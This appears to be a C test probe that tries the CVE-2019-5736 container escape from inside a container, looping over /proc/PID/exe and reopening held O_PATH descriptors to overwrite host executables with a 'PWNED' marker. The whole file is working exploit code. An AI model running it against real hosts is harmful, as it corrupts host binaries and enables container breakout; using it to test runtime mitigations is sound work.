/* Inside the container, forever: try to open every /proc/PID/exe it can see
   for writing, directly and (the CVE-2019-5736 way) by keeping an O_PATH
   descriptor and re-opening it for writing later, once the process is gone
   and the file no longer "busy"; print `WROTE` for every write that lands.
   Also report (every 1000th) the memfd executables it saw and the opens
   that succeeded without a write landing. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#define HELD 64
static int held[HELD];
static char held_link[HELD][128];
static long opened_no_write;
static void try_write(const char *path, const char *how, const char *link) {
  int fd = open(path, O_WRONLY);
  if (fd < 0)
    return;
  if (write(fd, "PWNED", 5) > 0)
    printf("WROTE %s %s (%s)\n", how, path, link);
  else if (opened_no_write++ % 1000 == 0)
    printf("opened, no write: %s %s (%s)\n", how, path, link);
  close(fd);
}
int main(void) {
  setvbuf(stdout, NULL, _IONBF, 0);
  printf("attacking\n");
  int self = getpid(), next = 0;
  long seen_memfd = 0;
  for (int i = 0; i < HELD; i++)
    held[i] = -1;
  for (;;) {
    DIR *d = opendir("/proc");
    if (!d)
      return 1;
    struct dirent *e;
    while ((e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == self)
        continue;
      char path[64], link[128] = "?", via[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      ssize_t n = readlink(path, link, sizeof link - 1);
      if (n > 0) {
        link[n] = 0;
        if (strncmp(link, "/memfd:", 7) == 0 && seen_memfd++ % 1000 == 0)
          printf("saw %s\n", link);
      }
      try_write(path, "directly", link);
      int p = open(path, O_PATH | O_CLOEXEC);
      if (p >= 0) {
        if (held[next] >= 0)
          close(held[next]);
        held[next] = p;
        strcpy(held_link[next], link);
        next = (next + 1) % HELD;
      }
    }
    closedir(d);
    for (int i = 0; i < HELD; i++) {
      if (held[i] < 0)
        continue;
      char via[64];
      snprintf(via, sizeof via, "/proc/self/fd/%d", held[i]);
      try_write(via, "later via O_PATH", held_link[i]);
    }
  }
}
